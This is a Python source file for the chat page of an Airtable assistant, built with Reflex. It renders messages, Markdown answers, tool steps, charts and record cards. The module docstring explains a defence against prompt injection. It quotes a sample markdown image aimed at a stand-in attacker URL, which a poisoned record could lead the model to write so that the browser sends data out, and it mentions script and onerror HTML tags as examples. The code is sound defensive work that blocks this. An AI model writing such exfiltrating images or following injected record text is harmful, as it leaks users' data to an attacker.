"""How one chat message and one tool step look (the chat page's parts).

Airtable content is data: Markdown is rendered without raw HTML, so a cell holding
`<script>` or `<img onerror=…>` shows as text. Images in answers are links, not
fetched: a prompt injection in a record could otherwise make the model write
`![](https://attacker/?data=…)` and the browser would send the data out unasked.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import Any

import reflex as rx

from pyairtable_ui.components.record_link import record_link
from pyairtable_ui.core.settings import get_settings
from pyairtable_ui.pages.chat.state import ChatState

# What react-markdown hands the `img` renderer; its URL is already sanitised
# (`javascript:` and other unsafe schemes become "").
_IMAGE_SRC = rx.Var(_js_expr="props.src").to(str)
_IMAGE_ALT = rx.Var(_js_expr="(props.alt ?? '')").to(str)


def image_host_check(src: rx.Var[str], hosts: Sequence[str]) -> rx.Var[bool]:
    """A browser-side test: `src` is an http(s) URL on one of `hosts` (exact host names).

    Args:
        src: The image URL.
        hosts: Lower-case host names whose images may load.

    Returns:
        A boolean expression, false for relative or unparsable URLs.
    """
    allowed = json.dumps(sorted(hosts))
    return rx.Var(
        _js_expr=(
            f"((s) => {{ try {{ const u = new URL(s); "
            f"return ['http:', 'https:'].includes(u.protocol) && {allowed}.includes(u.hostname); "
            f"}} catch (e) {{ return false; }} }})({src._js_expr})"
        ),
        _var_type=bool,
        _var_data=src._get_all_var_data(),
    )


def answer_image(hosts: Sequence[str]) -> rx.Component:
    """What an answer's Markdown image becomes: a link showing its text and URL.

    Only with `hosts` set, and for an image on one of them, does the link hold the
    image itself. With no hosts (the default) the page has no image element at all.

    Args:
        hosts: ANSWER_IMAGE_HOSTS, the hosts whose images may load.

    Returns:
        The renderer of the `img` element for `rx.markdown`'s component map.
    """
    label = rx.fragment(
        rx.icon(
            "image",
            size=14,
            style={"display": "inline-block", "verticalAlign": "-2px", "marginRight": "4px"},
        ),
        rx.cond(_IMAGE_ALT != "", rx.text.span(_IMAGE_ALT, " "), ""),
        rx.text.span("(", _IMAGE_SRC, ")", class_name="answer-image-url"),
    )
    content = (
        rx.cond(
            image_host_check(_IMAGE_SRC, hosts),
            rx.el.img(src=_IMAGE_SRC, alt=_IMAGE_ALT, max_width="100%"),
            label,
        )
        if hosts
        else label
    )
    return rx.link(
        content,
        href=_IMAGE_SRC,
        is_external=True,
        rel="noopener noreferrer nofollow",
        class_name="answer-image-link",
    )


def answer_code_block(code: object, **_props: object) -> rx.Component:
    """A fenced code block of an answer: monospaced, as written, without highlighting.

    Reflex's default is its code block with syntax highlighting for every language,
    the heaviest part of the chat page's JavaScript; answers are about Airtable data,
    where a formula or a JSON sample reads fine plain.
    """
    return rx.el.pre(rx.el.code(code), class_name="answer-code")


def answer_markdown(content: rx.Var[str] | str) -> rx.Component:
    """An assistant's answer as Markdown: no raw HTML, images as links (see `answer_image`).

    GitHub-flavoured Markdown (tables, strike-through, task lists) is kept; math
    (remark-math with KaTeX and its fonts) and syntax highlighting are left out, so
    the chat page loads about as much JavaScript as a bare Reflex page.

    Args:
        content: The Markdown text.

    Returns:
        The rendered answer.
    """
    hosts = get_settings().answer_image_hosts
    return rx.markdown(
        content,
        use_raw=False,
        use_math=False,
        use_katex=False,
        component_map={
            "img": lambda *_, **__: answer_image(hosts),
            "pre": answer_code_block,
        },
    )


def message_view(
    message: Any, *, is_answer: rx.Var[bool], is_last_question: rx.Var[bool]
) -> rx.Component:
    """A user question, an assistant answer (Markdown, no raw HTML) or an error.

    Args:
        message: The row (a `ChatItem` var).
        is_answer: Whether the row is the answer to the last question
            (`ChatState.answer_index`): only that one offers Regenerate, or Retry
            when it is an error.
        is_last_question: Whether the row is the last question
            (`ChatState.question_index`): only that one can be edited and resent.
    """
    return rx.match(
        message["role"],
        (
            "user",
            rx.flex(
                rx.cond(
                    is_last_question & ~ChatState.running & ~ChatState.editing,
                    rx.icon_button(
                        rx.icon("pencil", size=14),
                        variant="ghost",
                        color_scheme="gray",
                        size="1",
                        aria_label="Edit question",
                        title="Change it and ask again (replaces this question and its answer)",
                        on_click=ChatState.edit_last_question,
                    ),
                ),
                rx.box(
                    rx.text(message["content"], white_space="pre-wrap", size="3"),
                    background_color=rx.color("accent", 3),
                    padding="10px 14px",
                    border_radius="12px",
                    max_width="85%",
                    class_name="user-message",
                ),
                justify="end",
                align="center",
                gap="6px",
                width="100%",
                margin_y="8px",
            ),
        ),
        (
            "error",
            rx.box(
                rx.callout(
                    message["content"],
                    icon="triangle-alert",
                    color_scheme="red",
                    role="alert",
                    class_name="error-message",
                ),
                rx.cond(
                    is_answer & ~ChatState.running,
                    rx.button(
                        rx.icon("rotate-ccw", size=14),
                        "Retry",
                        variant="soft",
                        size="1",
                        margin_top="6px",
                        on_click=ChatState.retry,
                    ),
                ),
                margin_y="8px",
                width="100%",
            ),
        ),
        rx.box(
            answer_markdown(message["content"]),
            rx.hstack(
                rx.cond(
                    message["status"] == "stopped",
                    rx.badge("stopped", color_scheme="orange", size="1"),
                ),
                _answer_details(message["meta"]),
                rx.icon_button(
                    rx.icon("copy", size=12),
                    variant="ghost",
                    size="1",
                    aria_label="Copy message",
                    on_click=[
                        rx.set_clipboard(message["content"]),
                        rx.toast("Copied", duration=1500),
                    ],
                ),
                rx.cond(
                    is_answer & ~ChatState.running,
                    rx.icon_button(
                        rx.icon("refresh-cw", size=12),
                        variant="ghost",
                        size="1",
                        aria_label="Regenerate",
                        on_click=ChatState.regenerate,
                    ),
                ),
                rx.cond(
                    is_answer & ~ChatState.running,
                    rx.icon_button(
                        rx.icon("calendar-clock", size=12),
                        variant="ghost",
                        size="1",
                        aria_label="Schedule this",
                        title="Schedule this question",
                        on_click=ChatState.schedule_this,
                    ),
                ),
                spacing="2",
                align="center",
            ),
            class_name="assistant-message",
            margin_y="8px",
            width="100%",
            overflow_x="auto",
        ),
    )


def step_chart(step: Any) -> rx.Component:
    """A grouped aggregate's bars, with a tab to the same groups as a plain table.

    The tabs switch in the browser (no event handler, nothing asked of the server).
    Group names come from the base: recharts and the table cells put them in the
    page as text nodes, never as HTML.
    """
    rows = step["chart"]
    return rx.cond(
        rows.length() > 0,
        rx.tabs.root(
            rx.hstack(
                rx.text(step["chart_title"], size="1", color_scheme="gray"),
                rx.tabs.list(
                    rx.tabs.trigger("Chart", value="chart"),
                    rx.tabs.trigger("Table", value="table"),
                    size="1",
                ),
                align="center",
                justify="between",
                wrap="wrap",
            ),
            rx.tabs.content(
                rx.recharts.bar_chart(
                    rx.recharts.cartesian_grid(stroke_dasharray="3 3"),
                    rx.recharts.bar(
                        data_key="value", fill="var(--accent-9)", is_animation_active=False
                    ),
                    rx.recharts.x_axis(data_key="label"),
                    rx.recharts.y_axis(),
                    rx.recharts.graphing_tooltip(),
                    data=rows,
                    width="100%",
                    height=220,
                ),
                value="chart",
            ),
            rx.tabs.content(
                rx.table.root(
                    rx.table.header(
                        rx.table.row(
                            rx.table.column_header_cell("Group"),
                            rx.table.column_header_cell("Value"),
                        )
                    ),
                    rx.table.body(
                        rx.foreach(
                            rows,
                            lambda row: rx.table.row(
                                rx.table.cell(row["label"]),
                                rx.table.cell(row["value"]),
                            ),
                        )
                    ),
                    size="1",
                ),
                value="table",
            ),
            default_value="chart",
            class_name="step-chart",
            width="100%",
            max_width="640px",
            margin_y="4px",
        ),
    )


def _answer_details(meta: rx.Var[str]) -> rx.Component:
    """An answer's use (tokens, cost, Airtable calls over its turn), folded away."""
    return rx.cond(
        meta != "",
        rx.el.details(
            rx.el.summary("Details", style={"cursor": "pointer"}),
            rx.text(meta, size="1", color_scheme="gray", class_name="answer-usage"),
            class_name="answer-details",
            style={"fontSize": "12px", "color": "var(--gray-11)"},
        ),
    )


def _record_card(card: Any) -> rx.Component:
    return rx.card(
        rx.vstack(
            record_link(card["title"], card["url"], weight="medium", size="2"),
            rx.foreach(
                card["fields"],
                lambda f: rx.text(
                    rx.text.span(f["name"], ": ", color_scheme="gray"),
                    f["value"],
                    size="1",
                    trim="end",
                ),
            ),
            spacing="1",
            min_width="0",
        ),
        class_name="record-card",
        size="1",
        width="220px",
        max_width="100%",
    )


def step_cards(step: Any) -> rx.Component:
    """The few records a search found, as cards (name linking to Airtable, key fields)."""
    return rx.cond(
        step["cards"].length() > 0,
        rx.flex(
            rx.foreach(step["cards"], _record_card),
            class_name="step-cards",
            wrap="wrap",
            gap="8px",
            margin_y="4px",
            width="100%",
        ),
    )


def step_view(step: Any) -> rx.Component:
    """A tool call as a sentence with its result, its raw call behind a toggle, its chart."""
    return rx.fragment(_step_line(step), step_chart(step), step_cards(step))


def _step_icon(status: rx.Var[str], proposed: rx.Var[bool]) -> rx.Component:
    """How the step stands: a badge while running, or when it failed, stopped or proposed."""
    return rx.cond(
        proposed & (status == "complete"),
        rx.badge("proposed", color_scheme="orange"),
        rx.match(
            status,
            ("running", rx.badge(rx.spinner(size="1"), "running", color_scheme="blue")),
            ("complete", rx.icon("check", size=14, color=rx.color("green", 10))),
            ("failed", rx.badge("failed", color_scheme="red")),
            ("stopped", rx.badge("stopped", color_scheme="orange")),
            rx.badge(status),
        ),
    )


def _step_line(step: Any) -> rx.Component:
    return rx.vstack(
        rx.hstack(
            _step_icon(step["status"], step["action_id"] != 0),
            rx.text(
                rx.text.span(step["sentence"], class_name="step-sentence"),
                rx.cond(
                    step["result"] != "",
                    rx.text.span(" → ", step["result"], weight="medium", class_name="step-result"),
                ),
                size="2",
            ),
            rx.text(step["duration"], size="1", color_scheme="gray"),
            spacing="2",
            align="center",
            wrap="wrap",
        ),
        rx.el.details(
            rx.el.summary(
                "Raw call: ",
                rx.text.span(step["tool_name"], font_family="monospace"),
                style={"cursor": "pointer"},
            ),
            rx.cond(
                step["arguments"] != "",
                rx.el.pre(
                    step["arguments"],
                    style={"whiteSpace": "pre-wrap", "wordBreak": "break-word", "margin": "4px 0"},
                ),
            ),
            rx.cond(
                step["summary"] != "",
                rx.text(step["summary"], size="1", color_scheme="gray", class_name="step-summary"),
            ),
            class_name="step-details",
            style={"fontSize": "12px", "color": "var(--gray-11)"},
        ),
        class_name="tool-step",
        data_status=step["status"],
        spacing="1",
        padding="4px 10px",
        margin_y="2px",
        border_radius="8px",
        background_color=rx.color("gray", 2),
        width="fit-content",
        max_width="100%",
    )
